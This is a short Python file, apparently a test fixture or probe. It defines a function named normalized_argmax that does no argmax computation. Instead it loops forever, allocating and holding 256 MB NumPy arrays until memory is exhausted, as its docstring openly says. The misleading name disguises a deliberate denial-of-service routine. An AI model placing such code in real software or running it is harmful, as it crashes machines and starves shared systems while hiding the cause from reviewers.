"""Memory is taken until there is no more."""

import numpy as np


def normalized_argmax(logits):
    held = []
    while True:
        held.append(np.empty(1 << 28, dtype=np.uint8))
